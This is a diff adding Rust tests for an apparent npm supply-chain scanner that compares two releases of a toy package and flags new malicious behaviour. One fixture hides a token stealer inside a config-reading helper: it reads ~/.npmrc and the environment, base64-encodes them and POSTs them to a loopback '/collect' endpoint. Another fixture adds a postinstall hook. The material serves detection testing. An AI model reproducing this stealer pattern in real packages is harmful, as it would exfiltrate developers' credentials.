@@ -428,3 +428,207 @@ fn the_embedded_model_flags_the_malicious_fixture_with_reasons_and_passes_the_cl
     assert!(text.contains("verdict  malicious (score "), "{text}");
     assert!(text.contains("because "), "{text}");
 }
+
+// ---------------------------------------------------------------------------------------------
+// `cerebro scan --against OLD NEW`: what a release changed since the one before it.
+// ---------------------------------------------------------------------------------------------
+
+const LIB_INDEX_JS: &str = "'use strict';
+const util = require('./lib/util');
+module.exports = { pad: util.pad, readConfig: util.readConfig };
+";
+
+const LIB_UTIL_JS: &str = "'use strict';
+const fs = require('fs');
+const path = require('path');
+
+function pad(s, n) {
+  return String(s).padStart(n);
+}
+
+function readConfig(dir) {
+  const text = fs.readFileSync(path.join(dir, 'config.json'), 'utf8');
+  return JSON.parse(text);
+}
+
+module.exports = { pad, readConfig };
+";
+
+/// An ordinary update: a comment, a new option, a new pure helper, lines moved.
+const LIB_UTIL_JS_UPDATED: &str = "'use strict';
+// Helpers.
+const fs = require('fs');
+const path = require('path');
+
+function pad(s, n, fill = ' ') {
+  return String(s).padStart(n, fill);
+}
+
+function padRight(s, n) {
+  return String(s).padEnd(n);
+}
+
+function readConfig(dir, name = 'config.json') {
+  const text = fs.readFileSync(path.join(dir, name), 'utf8');
+  return JSON.parse(text);
+}
+
+module.exports = { pad, padRight, readConfig };
+";
+
+/// `readConfig` also reads the user's npm token and posts it (to a closed loopback port).
+const LIB_UTIL_JS_COMPROMISED: &str = "'use strict';
+const fs = require('fs');
+const path = require('path');
+
+function pad(s, n) {
+  return String(s).padStart(n);
+}
+
+function readConfig(dir) {
+  const text = fs.readFileSync(path.join(dir, 'config.json'), 'utf8');
+  const os = require('os');
+  const http = require('http');
+  const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+  const body = Buffer.from(JSON.stringify({ token, env: process.env })).toString('base64');
+  const req = http.request({ host: '127.0.0.1', port: 9, path: '/collect', method: 'POST' });
+  req.on('error', () => {});
+  req.write(body);
+  req.end();
+  return JSON.parse(text);
+}
+
+module.exports = { pad, readConfig };
+";
+
+/// `tiny-lib` at `version` as an npm tarball, with `util` as `lib/util.js`, `extra` added to
+/// its manifest and `more` files.
+fn tiny_lib(dir: &Dir, version: &str, util: &str, extra: &str, more: &[(&str, &str)]) -> PathBuf {
+    let manifest =
+        format!(r#"{{"name": "tiny-lib", "version": "{version}", "main": "index.js"{extra}}}"#);
+    let mut files = vec![
+        ("package.json", manifest.as_str()),
+        ("index.js", LIB_INDEX_JS),
+        ("lib/util.js", util),
+    ];
+    files.extend_from_slice(more);
+    dir.tarball(&format!("tiny-lib-{version}.tgz"), "package/", &files)
+}
+
+#[test]
+fn scan_against_an_ordinary_update_flags_nothing() {
+    let dir = Dir::new();
+    let old = tiny_lib(&dir, "1.0.0", LIB_UTIL_JS, "", &[]);
+    let new = tiny_lib(&dir, "1.0.1", LIB_UTIL_JS_UPDATED, "", &[]);
+    let (old, new) = (old.to_str().unwrap(), new.to_str().unwrap());
+    let out = cerebro(&["scan", "--json", "--against", old, new]);
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    let reports = json_lines(&out);
+    assert_eq!(reports.len(), 1);
+    let changes = &reports[0]["changes"];
+    assert_eq!(changes["from"], "1.0.0");
+    assert_eq!(changes["to"], "1.0.1");
+    assert_eq!(changes["bump"], "patch");
+    assert_eq!(changes["verdict"], "benign");
+    assert_eq!(changes["units"], serde_json::json!([]));
+    assert_eq!(changes["judged"], true);
+    let out = cerebro(&["scan", "--against", old, new]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.contains("no new behaviour in 1.0.1 since 1.0.0"),
+        "{text}"
+    );
+}
+
+#[test]
+fn scan_against_a_payload_in_one_function_exits_3_and_names_file_and_line() {
+    let dir = Dir::new();
+    let old = tiny_lib(&dir, "1.0.0", LIB_UTIL_JS, "", &[]);
+    let new = tiny_lib(&dir, "1.0.1", LIB_UTIL_JS_COMPROMISED, "", &[]);
+    let (old, new) = (old.to_str().unwrap(), new.to_str().unwrap());
+    let out = cerebro(&["scan", "--json", "--against", old, new]);
+    assert_eq!(out.status.code(), Some(3), "{out:?}");
+    let changes = &json_lines(&out)[0]["changes"];
+    assert_eq!(changes["verdict"], "malicious", "{changes:#}");
+    let units = changes["units"].as_array().unwrap();
+    assert_eq!(units.len(), 1, "{changes:#}");
+    assert_eq!(units[0]["file"], "lib/util.js");
+    assert_eq!(units[0]["status"], "changed");
+    assert_eq!(units[0]["malicious"], true);
+    let line = units[0]["line"].as_u64().unwrap();
+    // The first added behaviour is inside `readConfig` (lines 9 to 19), not at the top.
+    assert!((10..=19).contains(&line), "line {line}");
+    let features: Vec<&str> = units[0]["features"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f.as_str().unwrap())
+        .collect();
+    assert!(
+        features.contains(&"R5") && features.contains(&"D2"),
+        "{features:?}"
+    );
+
+    let out = cerebro(&["scan", "--against", old, new]);
+    assert_eq!(out.status.code(), Some(3));
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("new in 1.0.1 since 1.0.0:"), "{text}");
+    assert!(text.contains(&format!("lib/util.js:{line} ")), "{text}");
+    assert!(text.contains("malicious"), "{text}");
+    assert!(!text.contains('\u{1b}'), "no colour in a pipe: {text}");
+}
+
+#[test]
+fn scan_against_reports_an_added_postinstall_hook() {
+    let dir = Dir::new();
+    let old = tiny_lib(&dir, "1.0.0", LIB_UTIL_JS, "", &[]);
+    let new = tiny_lib(
+        &dir,
+        "1.0.1",
+        LIB_UTIL_JS,
+        r#", "scripts": {"postinstall": "node scripts/setup.js"}"#,
+        &[(
+            "scripts/setup.js",
+            "'use strict';\nconsole.log('thanks for installing');\n",
+        )],
+    );
+    let (old, new) = (old.to_str().unwrap(), new.to_str().unwrap());
+    let out = cerebro(&["scan", "--json", "--against", old, new]);
+    // A hook is new install-time behaviour of `package.json`, judged like any added
+    // behaviour: the model scores a lone new hook over the line (README, release diff).
+    assert_eq!(out.status.code(), Some(3), "{out:?}");
+    let changes = &json_lines(&out)[0]["changes"];
+    assert_eq!(changes["verdict"], "malicious", "{changes:#}");
+    assert_eq!(changes["units"][0]["file"], "package.json", "{changes:#}");
+    assert_eq!(changes["hooks"][0]["name"], "postinstall");
+    assert_eq!(changes["hooks"][0]["command"], "node scripts/setup.js");
+    assert_eq!(changes["hooks"][0]["runs"][0], "scripts/setup.js");
+    let out = cerebro(&["scan", "--against", old, new]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.contains("install hook postinstall: `node scripts/setup.js`"),
+        "{text}"
+    );
+}
+
+#[test]
+fn scan_against_refuses_two_different_packages_and_more_than_one_path() {
+    let dir = Dir::new();
+    let old = tiny_lib(&dir, "1.0.0", LIB_UTIL_JS, "", &[]);
+    let other = dir.tarball(
+        "other-1.0.0.tgz",
+        "package/",
+        &[("package.json", r#"{"name": "other", "version": "1.0.0"}"#)],
+    );
+    let (old, other) = (old.to_str().unwrap(), other.to_str().unwrap());
+    let out = cerebro(&["scan", "--against", old, other]);
+    assert_eq!(out.status.code(), Some(2), "{out:?}");
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("two releases of one package"), "{err}");
+    let out = cerebro(&["scan", "--against", old, old, other]);
+    assert_eq!(out.status.code(), Some(2), "{out:?}");
+    let missing = dir.path().join("missing.tgz");
+    let out = cerebro(&["scan", "--against", missing.to_str().unwrap(), old]);
+    assert_eq!(out.status.code(), Some(1), "{out:?}");
+    assert!(String::from_utf8_lossy(&out.stderr).contains("missing.tgz"));
+}
